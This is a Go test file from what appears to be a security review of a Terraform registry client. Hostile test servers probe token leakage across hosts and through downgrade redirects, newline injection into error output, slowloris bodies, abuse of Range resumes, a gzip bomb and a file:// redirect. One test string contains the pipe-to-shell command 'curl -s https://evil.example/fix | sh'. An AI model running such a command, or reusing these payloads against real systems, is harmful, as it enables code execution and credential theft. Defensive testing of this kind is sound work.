package registry

// ATTACK TESTS (atk-upstream review). Each test named TestAttack* asserts the
// behaviour a user depends on; one that FAILS on the reviewed main is a
// finding (see the review report), one that passes is an attack correctly
// refused. Production code is not modified here.

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airgap/airgap/dist"
)

// atkRecorder serves h and records the Authorization headers it received.
type atkRecorder struct {
	mu    sync.Mutex
	auths []string
}

func (r *atkRecorder) record(req *http.Request) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if a := req.Header.Get("Authorization"); a != "" {
		r.auths = append(r.auths, req.URL.Host+req.URL.Path+" <- "+a)
	}
}

func (r *atkRecorder) got() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.auths...)
}

// FINDING: the discovery document of host A names its providers.v1 service
// on another host B; the client sends A's TF_TOKEN to B on every API call.
func TestAttackTokenSentToServiceOnOtherHost(t *testing.T) {
	other := &atkRecorder{}
	b := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		other.record(r)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"versions":[]}`)
	})
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"providers.v1":%q}`, b.srv.URL+"/v1/providers/")
	})
	hostA := strings.TrimPrefix(a.srv.URL, "https://")
	c := testClient(a.srv.Client().Transport)
	c.creds = Credentials{fromConfig: map[string]string{hostA: "SECRET-TOKEN-OF-A"}}
	if _, err := c.ProviderVersions(context.Background(), hostA, "ns", "t"); err != nil {
		t.Fatal(err)
	}
	if got := other.got(); len(got) > 0 {
		t.Errorf("host A's token reached another host named by A's discovery document: %v", got)
	}
}

// FINDING: an API answer of https://host:PORT1 redirects to
// http://host:PORT2 (same hostname, other port, plaintext): net/http keeps
// the Authorization header (it compares hostnames only) and checkRedirect
// allows the downgrade, so the token crosses the network in clear to a
// different service.
func TestAttackTokenFollowsDowngradeRedirect(t *testing.T) {
	plain := &atkRecorder{}
	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		plain.record(r)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"versions":[]}`)
	}))
	t.Cleanup(p.Close)
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/.well-known/terraform.json" {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, `{"providers.v1":"/v1/providers/"}`)
			return
		}
		http.Redirect(w, r, p.URL+r.URL.Path, http.StatusFound) // http://127.0.0.1:OTHER/...
	})
	hostA := strings.TrimPrefix(a.srv.URL, "https://")
	c := testClient(a.srv.Client().Transport)
	c.creds = Credentials{fromConfig: map[string]string{hostA: "SECRET-TOKEN-OF-A"}}
	_, err := c.ProviderVersions(context.Background(), hostA, "ns", "t")
	if got := plain.got(); len(got) > 0 {
		t.Errorf("the token went over plain http to another port (err=%v): %v", err, got)
	}
}

// FINDING: registry strings with a newline reach error messages raw; main
// prints errors through dist.PrintableLines, which keeps newlines, so a
// registry can forge whole lines, e.g. a "hint:" telling the user what to run.
func TestAttackForgedHintLineFromDownloadDocument(t *testing.T) {
	forged := "linux\nhint: the registry moved; run: curl -s https://evil.example/fix | sh"
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Path == "/.well-known/terraform.json" {
			fmt.Fprint(w, `{"providers.v1":"/v1/providers/"}`)
			return
		}
		json.NewEncoder(w).Encode(map[string]any{"os": forged, "arch": "amd64"})
	})
	host := strings.TrimPrefix(a.srv.URL, "https://")
	c := testClient(a.srv.Client().Transport)
	_, err := c.ProviderPackage(context.Background(), host, "ns", "t", "1.0.0", "linux", "amd64")
	if err == nil {
		t.Fatal("accepted")
	}
	for _, l := range strings.Split(dist.PrintableLines(err.Error()), "\n") {
		if strings.HasPrefix(l, "hint: the registry moved") {
			t.Errorf("a registry-supplied string became its own terminal line:\n%s", dist.PrintableLines(err.Error()))
		}
	}
}

// FINDING: Fetch (SHA256SUMS, signatures) and downloads have no total time
// bound: a body that sends one byte just inside the idle timeout keeps the
// export waiting indefinitely (4 MiB SHA256SUMS at 1 byte / 119 s = 15 years).
// Here: a 30-byte document at 1 byte / 150 ms, idle timeout 300 ms, metadata
// timeout 500 ms.
func TestAttackSlowlorisFetchHasNoTotalBound(t *testing.T) {
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(200)
		for i := 0; i < 30 && r.Context().Err() == nil; i++ {
			w.Write([]byte("x"))
			w.(http.Flusher).Flush()
			time.Sleep(150 * time.Millisecond)
		}
	})
	c := New(Options{Transport: a.srv.Client().Transport, Timeout: 500 * time.Millisecond})
	c.Backoff = time.Millisecond
	c.IdleTimeout = 300 * time.Millisecond
	start := time.Now()
	_, err := c.Fetch(context.Background(), a.srv.URL+"/SHA256SUMS", 1<<20)
	if el := time.Since(start); err == nil && el > 6*500*time.Millisecond {
		t.Errorf("a trickling 30-byte document took %s (metadata timeout 500ms, idle 300ms): no total bound", el.Round(time.Millisecond))
	}
}

// REFUSED: hostile answers to a resume (206 with another range, 200 to a
// Range request, 416, a prefix from other content, a Content-Range total
// over the limit): whatever happens, the digest returned covers exactly the
// bytes of the file on disk, so the caller's check against the signed
// SHA256SUMS sees every byte.
func TestAttackRangeAbuseDigestCoversFile(t *testing.T) {
	good := bytes.Repeat([]byte("GOOD-"), 4000)
	evil := bytes.Repeat([]byte("EVIL-"), 4000)
	cases := []struct {
		name string
		h    http.HandlerFunc
	}{
		{"206 with another start", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Range", fmt.Sprintf("bytes 0-%d/%d", len(good)-1, len(good)))
			w.WriteHeader(206)
			w.Write(good)
		}},
		{"206 with a lying start", func(w http.ResponseWriter, r *http.Request) {
			var off int
			fmt.Sscanf(r.Header.Get("Range"), "bytes=%d-", &off)
			w.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/%d", off, len(good)-1, len(good)))
			w.WriteHeader(206)
			w.Write(good[off/2:]) // different bytes than asked
		}},
		{"200 to a Range request", func(w http.ResponseWriter, r *http.Request) { w.Write(good) }},
		{"416", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(416) }},
		{"206 total over the limit", func(w http.ResponseWriter, r *http.Request) {
			var off int
			fmt.Sscanf(r.Header.Get("Range"), "bytes=%d-", &off)
			w.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/%d", off, 1<<40, 1<<41))
			w.WriteHeader(206)
			w.Write(good[off:])
		}},
		{"content-length longer than body", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Length", fmt.Sprint(len(good)+100))
			w.Write(good)
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := newHostile(t, tc.h)
			c := testClient(a.srv.Client().Transport)
			c.Retries = 1
			p := filepath.Join(t.TempDir(), "x.part")
			os.WriteFile(p, evil[:7000], 0o644) // a prefix from other content
			d, n, err := c.DownloadResumable(context.Background(), a.srv.URL+"/p.zip", p, 1<<20)
			if err != nil {
				return // refused: the caller removes or parks; nothing admitted
			}
			b, _ := os.ReadFile(p)
			sum := sha256.Sum256(b)
			if string(d) != "sha256:"+hex.EncodeToString(sum[:]) || n != int64(len(b)) {
				t.Errorf("digest %s/%d does not cover the file on disk (%d bytes)", d, n, len(b))
			}
		})
	}
}

// REFUSED: a gzip bomb as a JSON answer is cut at the 4 MiB limit after
// transparent decompression (net/http asks for gzip itself).
func TestAttackGzipBombJSON(t *testing.T) {
	var z bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&z, gzip.BestCompression)
	zw.Write([]byte(`{"versions":[`))
	zw.Write(bytes.Repeat([]byte(" "), 256<<20))
	zw.Close()
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Path == "/.well-known/terraform.json" {
			fmt.Fprint(w, `{"providers.v1":"/v1/providers/"}`)
			return
		}
		w.Header().Set("Content-Encoding", "gzip")
		w.Write(z.Bytes())
	})
	host := strings.TrimPrefix(a.srv.URL, "https://")
	c := testClient(a.srv.Client().Transport)
	_, err := c.ProviderVersions(context.Background(), host, "ns", "t")
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("got %v, want ErrTooLarge", err)
	}
}

// REFUSED: redirects of downloads to file:// and of API calls to other
// schemes are permanent errors; a download carries no Authorization.
func TestAttackRedirectToFile(t *testing.T) {
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "file:///etc/passwd")
		w.WriteHeader(302)
	})
	c := testClient(a.srv.Client().Transport)
	_, err := c.Fetch(context.Background(), a.srv.URL+"/x", 1<<20)
	if !errors.Is(err, ErrUnsupportedScheme) {
		t.Fatalf("got %v", err)
	}
	_ = url.URL{}
}
